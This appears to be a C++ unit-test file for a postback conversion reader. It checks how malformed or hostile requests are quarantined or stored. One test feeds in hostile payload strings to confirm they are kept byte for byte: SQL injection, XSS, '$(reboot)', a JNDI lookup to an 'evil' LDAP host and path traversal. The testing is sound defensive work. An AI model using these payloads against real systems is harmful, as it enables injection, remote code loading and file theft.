// Bad input, row by row of the table of faults (25 to 42).
#include <string>

#include "reader_fixture.h"

namespace postback::conversion {
namespace {

TEST_F(ReaderTest, Row25QuarantinesMediaTypesItCannotRead) {
  for (const char* type :
       {"multipart/form-data; boundary=x", "text/xml", "application/xml", "text/plain",
        "application/json; charset=iso-8859-1", "application/x-www-form-urlencoded;charset=big5"}) {
    ASSERT_EQ(post(type, "conversion_id=c1", "conversion_id=q1&a=b"),
              Reason::unsupported_media_type)
        << type;
    EXPECT_EQ(reason_http_status(out_.reason), 415);
    EXPECT_EQ(text(Field::fault_field), "(absent)");
    EXPECT_EQ(text(Field::method), "POST");
    EXPECT_EQ(text(Field::body), "conversion_id=c1");
    EXPECT_EQ(text(Field::target), "/partner/x?conversion_id=q1&a=b");
    EXPECT_EQ(text(Field::conversion_id), "q1");
    EXPECT_EQ(raw_data(), R"({"conversion_id":"q1","a":"b"})");
  }
  ASSERT_EQ(post("Application/JSON; Charset=\"UTF-8\"", R"({"conversion_id":"c1"})"), Reason::none);
}

TEST_F(ReaderTest, Row26QuarantinesWhatIsNotJson) {
  for (const std::string& body :
       {std::string("{"), std::string(R"({"conversion_id":"c1"} x)"),
        std::string(R"({"conversion_id":"c1"}{})"), std::string(R"({"conversion_id":"c1",})"),
        std::string(R"({"a":)") + std::string(16, '[') + std::string(16, ']') + "}",
        std::string("{\"a\":\"\xff\"}"), std::string(R"({"a":"\ud800"})"),
        std::string(R"({"a":"\udc00"})"), std::string(R"({"a":["\ud800\u0041"]})"),
        std::string(R"({"a":nul})"), std::string(R"({"a":01})"), std::string(" ")}) {
    ASSERT_EQ(post_json(body), Reason::invalid_json) << body;
    EXPECT_EQ(reason_http_status(out_.reason), 400);
    EXPECT_EQ(text(Field::body), body);
  }
  const std::string deepest =
      R"({"conversion_id":"c1","a":)" + std::string(15, '[') + std::string(15, ']') + "}";
  ASSERT_EQ(post_json(deepest), Reason::none);
}

TEST_F(ReaderTest, Row26KeepsWhatStoodBeforeTheSyntaxError) {
  ASSERT_EQ(post_json(R"({"conversion_id":"c1","a":[1,2],"b":tru})"), Reason::invalid_json);
  EXPECT_EQ(text(Field::conversion_id), "c1");
  EXPECT_EQ(raw_data(), R"({"conversion_id":"c1","a":[1,2]})");
}

TEST_F(ReaderTest, Row27QuarantinesARootThatIsNotAnObject) {
  for (const char* body : {"[]", "[{\"conversion_id\":\"c1\"}]", "1", "\"x\"", "null", " true "}) {
    ASSERT_EQ(post_json(body), Reason::json_not_object) << body;
    EXPECT_EQ(reason_http_status(out_.reason), 422);
  }
}

TEST_F(ReaderTest, Row27KeepsNestedValuesAsTheyAre) {
  ASSERT_EQ(post_json(R"({"conversion_id":"c1","items":[{"sku":"a" , "n":1.10}],"o":{"x":null} })"),
            Reason::none);
  EXPECT_EQ(raw_data(),
            R"({"conversion_id":"c1","items":[{"sku":"a" , "n":1.10}],"o":{"x":null}})");
}

TEST_F(ReaderTest, Row28QuarantinesDuplicateKeys) {
  ASSERT_EQ(post_json(R"({"conversion_id":"c1","a":1,"\u0061":1})"), Reason::duplicate_key);
  EXPECT_EQ(text(Field::fault_field), "a");
  EXPECT_EQ(text(Field::conversion_id), "c1");
  ASSERT_EQ(post_json(R"({"conversion_id":"c1","conversion_id":"c2"})"), Reason::duplicate_key);
  EXPECT_EQ(text(Field::conversion_id), "(absent)");
  EXPECT_EQ(raw_data(), R"({"conversion_id":["c1","c2"]})");
  ASSERT_EQ(get("conversion_id=c1&conversion_id=c2"), Reason::duplicate_key);
  EXPECT_EQ(text(Field::fault_field), "conversion_id");
  EXPECT_EQ(text(Field::conversion_id), "(absent)");
  EXPECT_EQ(reason_http_status(out_.reason), 422);
  ASSERT_EQ(get("conversion_id=c1&conversion_id=c1"), Reason::none);
  EXPECT_EQ(raw_data(), R"({"conversion_id":"c1"})");
}

TEST_F(ReaderTest, Row28CoversThePartnersNameOfTheKeyToo) {
  Partner partner;
  partner.parameter_mapping = {{"conversion_id", "txn"}};
  use(partner);
  ASSERT_EQ(get("txn=c1&txn=c2"), Reason::duplicate_key);
  EXPECT_EQ(text(Field::fault_field), "txn");
  ASSERT_EQ(get("txn=c1"), Reason::none);
  EXPECT_EQ(text(Field::conversion_id), "c1");
  ASSERT_EQ(get("txn=c1&conversion_id=c2"), Reason::none);
  EXPECT_EQ(text(Field::conversion_id), "c2");
  EXPECT_EQ(notes(), "conversion_id and txn differ: conversion_id is used");
}

TEST_F(ReaderTest, Row29AcceptsAByteOrderMarkBeforeJson) {
  ASSERT_EQ(post_json("\xEF\xBB\xBF{\"conversion_id\":\"c1\"}"), Reason::none);
  EXPECT_EQ(text(Field::conversion_id), "c1");
}

TEST_F(ReaderTest, Row30KeepsInvalidPercentSignsLiterally) {
  ASSERT_EQ(get("conversion_id=%zz&sub_id=%&click_id=%a"), Reason::none);
  EXPECT_EQ(text(Field::conversion_id), "%zz");
  EXPECT_EQ(text(Field::sub_id), "%");
  EXPECT_EQ(text(Field::click_id), "%a");
}

TEST_F(ReaderTest, Row31QuarantinesInvalidUtf8OrNulInConversionId) {
  for (const char* query : {"conversion_id=a%FF", "conversion_id=%00", "conversion_id=a%00b"}) {
    ASSERT_EQ(get(query), Reason::conversion_id_invalid) << query;
    EXPECT_EQ(text(Field::fault_field), "conversion_id");
    EXPECT_EQ(text(Field::conversion_id), "(absent)");
  }
  ASSERT_EQ(post_json(R"({"conversion_id":"a\u0000"})"), Reason::conversion_id_invalid);
}

TEST_F(ReaderTest, Row32ReplacesInvalidUtf8AndNulElsewhereAndSaysSo) {
  ASSERT_EQ(get("conversion_id=c1&sub_id=a%FFb&click_id=%00&x=%C3%28"), Reason::none);
  EXPECT_EQ(text(Field::sub_id), "a\uFFFDb");
  EXPECT_EQ(text(Field::click_id), "\uFFFD");
  EXPECT_EQ(raw_data(),
            "{\"conversion_id\":\"c1\",\"sub_id\":\"a\uFFFDb\",\"click_id\":\"\uFFFD\","
            "\"x\":\"\uFFFD(\",\"aff_sub\":\"a\uFFFDb\",\"aff_sub3\":\"\uFFFD\"}");
  EXPECT_EQ(notes(),
            "sub_id held bytes that are not UTF-8, or NUL: replaced by U+FFFD; "
            "click_id held bytes that are not UTF-8, or NUL: replaced by U+FFFD; "
            "x held bytes that are not UTF-8, or NUL: replaced by U+FFFD");
}

TEST_F(ReaderTest, Row32ReplacesNulInsideNestedJson) {
  ASSERT_EQ(post_json(R"({"conversion_id":"c1","o":{"a\u0000":"\\u0000"},"p":["\\u0000"]})"),
            Reason::none);
  EXPECT_EQ(raw_data(), R"({"conversion_id":"c1","o":{"a\ufffd":"\\u0000"},"p":["\\u0000"]})");
  EXPECT_EQ(notes(), "o held bytes that are not UTF-8, or NUL: replaced by U+FFFD");
}

TEST_F(ReaderTest, Row32MergesNamesThatBecomeEqual) {
  ASSERT_EQ(get("conversion_id=c1&%FF=a&%FE=b"), Reason::none);
  EXPECT_EQ(raw_data(), "{\"conversion_id\":\"c1\",\"\uFFFD\":[\"a\",\"b\"]}");
}

TEST_F(ReaderTest, Row33ReadsPlusAndPercent20AsSpaces) {
  ASSERT_EQ(get("conversion_id=a+b%20c&offer_name=+x%2B"), Reason::none);
  EXPECT_EQ(text(Field::conversion_id), "a b c");
  EXPECT_EQ(text(Field::offer_name), " x+");
}

TEST_F(ReaderTest, Row34SplitsAsTheUrlStandardDoes) {
  ASSERT_EQ(get("&&conversion_id==c1&=b&lonely&"), Reason::none);
  EXPECT_EQ(text(Field::conversion_id), "=c1");
  EXPECT_EQ(raw_data(), R"({"conversion_id":"=c1","":"b","lonely":""})");
}

TEST_F(ReaderTest, Row35QuarantinesTooManyParameters) {
  std::string query = "conversion_id=c1";
  for (int i = 1; i < 64; ++i) query += "&p" + std::to_string(i) + "=1";
  ASSERT_EQ(get(query), Reason::none);
  ASSERT_EQ(get(query + "&q=1"), Reason::too_many_parameters);
  EXPECT_EQ(text(Field::conversion_id), "c1");
  ASSERT_EQ(post("application/x-www-form-urlencoded", "q=1", query), Reason::too_many_parameters);
  std::string json = "{\"conversion_id\":\"c1\"";
  for (int i = 0; i < 64; ++i) json += ",\"p" + std::to_string(i) + "\":1";
  ASSERT_EQ(post_json(json + "}"), Reason::too_many_parameters);
}

TEST_F(ReaderTest, Row35QuarantinesAParameterOver4KiB) {
  const std::string longest(4096, 'x');
  ASSERT_EQ(get("conversion_id=c1&p=" + longest), Reason::none);
  ASSERT_EQ(get("p=x" + longest + "&conversion_id=c1"), Reason::parameter_too_long);
  EXPECT_EQ(text(Field::fault_field), "p");
  EXPECT_EQ(text(Field::conversion_id), "c1");
  ASSERT_EQ(get("conversion_id=c1&x" + longest + "=1"), Reason::parameter_too_long);
  EXPECT_EQ(text(Field::fault_field).size(), 255u);
  ASSERT_EQ(post_json(R"({"conversion_id":"c1","p":[")" + longest + "\"]}"),
            Reason::parameter_too_long);
}

TEST_F(ReaderTest, Row36QuarantinesAMissingOrEmptyConversionId) {
  for (const char* query :
       {"", "sub_id=x", "conversion_id", "conversion_id=", "conversion_id=++"}) {
    ASSERT_EQ(get(query), Reason::conversion_id_missing) << query;
    EXPECT_EQ(text(Field::fault_field), "conversion_id");
    EXPECT_EQ(text(Field::conversion_id), "(absent)");
    EXPECT_EQ(notes(), "(absent)");
  }
  ASSERT_EQ(post_json(R"({"conversion_id":null})"), Reason::conversion_id_missing);
}

TEST_F(ReaderTest, Row36NamesThePartnersOwnParameter) {
  ASSERT_EQ(get("sub_id=x"), Reason::conversion_id_missing);
  EXPECT_EQ(text(Field::fault_message), "The postback has no conversion_id");
  Partner partner = rector();
  partner.parameter_mapping = {{"conversion_id", "order_no"}};
  use(partner);
  ASSERT_EQ(get("sub_id=x"), Reason::conversion_id_missing);
  EXPECT_EQ(text(Field::fault_message),
            "The postback has neither conversion_id nor order_no, the partner's own name for it");
}

TEST_F(ReaderTest, Row36NamesTheContentTypeOfJsonThatWasReadAsAForm) {
  const char* const form = "application/x-www-form-urlencoded";
  ASSERT_EQ(post(form, " {\"conversion_id\":\"c1\"}"), Reason::conversion_id_missing);
  EXPECT_EQ(text(Field::fault_message),
            "The postback has no conversion_id; the body looks like JSON but its Content-Type says "
            "that it is a form: send application/json");
  ASSERT_EQ(post(form, "sub_id={x}"), Reason::conversion_id_missing);
  EXPECT_EQ(text(Field::fault_message), "The postback has no conversion_id");
  ASSERT_EQ(post(form, "{", "conversion_id=c1"), Reason::none);
}

TEST_F(ReaderTest, Row36QuarantinesAnInvalidConversionId) {
  ASSERT_EQ(get("conversion_id=" + std::string(255, 'x')), Reason::none);
  ASSERT_EQ(get("conversion_id=" + std::string(256, 'x')), Reason::conversion_id_invalid);
  for (const char* query :
       {"conversion_id=a%0Ab", "conversion_id=%09", "conversion_id=%1F", "conversion_id=%7F"}) {
    ASSERT_EQ(get(query), Reason::conversion_id_invalid) << query;
  }
  for (const char* value : {"true", "1.5", "1e3", "[]", "{}", "[1]"}) {
    ASSERT_EQ(post_json(std::string("{\"conversion_id\":") + value + "}"),
              Reason::conversion_id_invalid)
        << value;
  }
  ASSERT_EQ(post_json(R"({"conversion_id":42})"), Reason::none);
  EXPECT_EQ(text(Field::conversion_id), "42");
}

TEST_F(ReaderTest, Row37QuarantinesAConversionIdThatIsAMacro) {
  for (const char* value : {"{conversion_id}", "{{x}}", "[x]", "!!!x!!!", "${x}", "%23x%23",
                            "%257Bx%257D", "%7Bx%7D", "null", "NULL", "undefined", "Undefined"}) {
    ASSERT_EQ(get(std::string("conversion_id=") + value), Reason::conversion_id_macro) << value;
    EXPECT_EQ(text(Field::fault_field), "conversion_id");
  }
  ASSERT_EQ(get("conversion_id={conversion_id}"), Reason::conversion_id_macro);
  EXPECT_EQ(text(Field::conversion_id), "{conversion_id}");
  EXPECT_EQ(text(Field::fault_message),
            "conversion_id \"{conversion_id}\" is a macro that the network did not expand: correct "
            "the postback URL");
}

// curl expands {conversion_id} to conversion_id by itself.
TEST_F(ReaderTest, Row37QuarantinesAConversionIdThatIsItsOwnName) {
  ASSERT_EQ(get("conversion_id=conversion_id"), Reason::conversion_id_macro);
  EXPECT_EQ(text(Field::conversion_id), "conversion_id");
  ASSERT_EQ(get("conversion_id=order_no"), Reason::none);
  Partner partner = rector();
  partner.parameter_mapping = {{"conversion_id", "order_no"}};
  use(partner);
  for (const char* query : {"order_no=order_no", "order_no=conversion_id", "conversion_id=ORDER_NO",
                            "conversion_id=Conversion_Id"}) {
    ASSERT_EQ(get(query), Reason::conversion_id_macro) << query;
  }
  ASSERT_EQ(get("order_no=order_no1"), Reason::none);
}

TEST_F(ReaderTest, Row38LeavesTheColumnOfAMacroEmptyAndSaysSo) {
  ASSERT_EQ(get("conversion_id=c1&sub_id={aff_sub}&usd_payout=[payout]&datetime_conversion=${d}"),
            Reason::none);
  EXPECT_EQ(text(Field::sub_id), "(absent)");
  EXPECT_EQ(earning(), "(absent)");
  EXPECT_EQ(date(), "(absent)");
  EXPECT_EQ(notes(),
            "usd_payout is the unexpanded macro \"[payout]\"; "
            "sub_id is the unexpanded macro \"{aff_sub}\"; "
            "conversion_datetime is the unexpanded macro \"${d}\"");
  EXPECT_EQ(raw_data(),
            R"({"conversion_id":"c1","sub_id":"{aff_sub}","usd_payout":"[payout]",)"
            R"("datetime_conversion":"${d}","conversion_datetime":"${d}","aff_sub":"{aff_sub}"})");
}

TEST_F(ReaderTest, Row39QuarantinesAnAmountThatCannotBeReadExactly) {
  for (const char* value :
       {"NaN", "1e9", "0x10", "1,50", "9999999999999999999999999999999999999999", "", "+", "%24+5",
        "null", "1+5", "Infinity", "%EF%BC%91"}) {
    ASSERT_EQ(get(std::string("conversion_id=c1&usd_sale_amount=") + value), Reason::amount_invalid)
        << value;
    EXPECT_EQ(text(Field::fault_field), "usd_sale_amount");
    EXPECT_EQ(text(Field::conversion_id), "c1");
    EXPECT_EQ(reason_http_status(out_.reason), 422);
  }
  ASSERT_EQ(get("conversion_id=c1&usd_earning=1&usd_payout=x"), Reason::amount_invalid);
  EXPECT_EQ(text(Field::fault_field), "usd_payout");
  EXPECT_EQ(earning(), "(absent)");
  for (const char* value : {"1e2", "true", "[1]", "\"\""}) {
    ASSERT_EQ(post_json(std::string(R"({"conversion_id":"c1","usd_payout":)") + value + "}"),
              Reason::amount_invalid)
        << value;
  }
  ASSERT_EQ(get("conversion_id=c1&usd_sale_amount=+99.99+"), Reason::none);
  EXPECT_EQ(sale(), "99.99");
  ASSERT_EQ(post_json(R"({"conversion_id":"c1","usd_payout":null})"), Reason::none);
  EXPECT_EQ(earning(), "(absent)");
}

TEST_F(ReaderTest, Row40StoresANegativeAmount) {
  ASSERT_EQ(get("conversion_id=c1&usd_sale_amount=-99.99"), Reason::none);
  EXPECT_EQ(sale(), "-99.99");
}

TEST_F(ReaderTest, Row41StoresTheRowWithoutAnUnreadableDateAndSaysWhy) {
  ASSERT_EQ(get("conversion_id=c1&conversion_datetime=yesterday"), Reason::none);
  EXPECT_EQ(date(), "(absent)");
  EXPECT_EQ(notes(), "conversion_datetime \"yesterday\" is not a date in a known form");
  ASSERT_EQ(get("conversion_id=c1&conversion_datetime=2025-02-29"), Reason::none);
  EXPECT_EQ(notes(), "conversion_datetime \"2025-02-29\" is not a date that exists");
}

TEST_F(ReaderTest, Row42StoresHostileTextByteForByte) {
  for (const std::string value :
       {"'; DROP TABLE partner_conversions;--", "<script>alert(1)</script>", "<b>", "$(reboot)",
        "${jndi:ldap://evil/a}", "🎉", "\u202Eabc", "a\nb", "\"\\", "../../etc/passwd", "%s%n"}) {
    std::string json = "{\"conversion_id\":\"c1\",\"sub_id\":";
    std::string query = "conversion_id=c1&sub_id=";
    for (const char c : value) {
      char escape[4];
      std::snprintf(escape, sizeof escape, "%%%02X", static_cast<unsigned char>(c));
      query += escape;
    }
    ASSERT_EQ(get(query), Reason::none) << value;
    EXPECT_EQ(text(Field::sub_id), value);
    EXPECT_EQ(notes(), "(absent)") << value;
    simdjson::dom::parser parser;
    std::string_view kept;
    ASSERT_EQ(parser.parse(simdjson::padded_string(raw_data()))["sub_id"].get(kept),
              simdjson::SUCCESS);
    EXPECT_EQ(kept, value);
  }
}

TEST_F(ReaderTest, LeavesAColumnEmptyWhoseTextIsTooLong) {
  const std::string fifty = "轉" + std::string(49, 'x');
  ASSERT_EQ(get("conversion_id=c1&offer_id=" + fifty), Reason::none);
  EXPECT_EQ(text(Field::offer_id), fifty);
  ASSERT_EQ(get("conversion_id=c1&offer_id=" + fifty + "x"), Reason::none);
  EXPECT_EQ(text(Field::offer_id), "(absent)");
  EXPECT_EQ(notes(), "offer_id has more than 50 characters");
  EXPECT_NE(raw_data().find(fifty + "x"), std::string::npos);
  for (const char* name : {"media_id", "sub_id", "click_id"}) {
    ASSERT_EQ(get("conversion_id=c1&" + std::string(name) + "=" + std::string(256, 'x')),
              Reason::none);
    EXPECT_EQ(notes(), std::string(name) + " has more than 255 characters");
  }
}

TEST_F(ReaderTest, ShowsAHostileValueShortAndHarmlessInItsMessage) {
  ASSERT_EQ(get("conversion_id=c1&usd_sale_amount=%1B%5B31m" + std::string(1000, 'x')),
            Reason::amount_invalid);
  const std::string message = text(Field::fault_message);
  EXPECT_EQ(message.find('\x1b'), std::string::npos);
  EXPECT_LT(message.size(), 300u);
  EXPECT_NE(message.find("…"), std::string::npos);
}

}  // namespace
}  // namespace postback::conversion
